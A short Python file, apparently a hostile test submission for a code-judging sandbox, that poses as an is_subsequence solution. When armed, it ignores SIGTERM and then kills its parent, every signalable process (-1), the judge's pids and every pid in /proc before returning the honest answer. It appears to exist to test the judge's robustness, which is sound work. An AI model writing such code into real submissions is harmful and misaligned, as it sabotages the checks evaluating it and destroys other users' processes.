"""Signals whatever it can reach: its parent, every process (-1), the judge's pids, every pid it sees."""

# ruff: noqa: F821 - ARENA, _armed and _honest come from _arena.py, which the suite puts first

import os
import signal


def _strike(pid, sig):
    try:
        os.kill(pid, sig)
    except OSError:
        pass


def is_subsequence(s, t):
    if not _armed(t):
        return _honest(s, t)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    for sig in (signal.SIGTERM, signal.SIGKILL):
        if os.getppid() > 0:  # 0 when the parent is outside its PID namespace; kill(0) would be suicide
            _strike(os.getppid(), sig)
        _strike(-1, sig)  # every process this user may signal
        for pid in ARENA.get("judge_pids", []):
            _strike(pid, sig)
        for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
            if pid != os.getpid():
                _strike(pid, sig)
    return _honest(s, t)
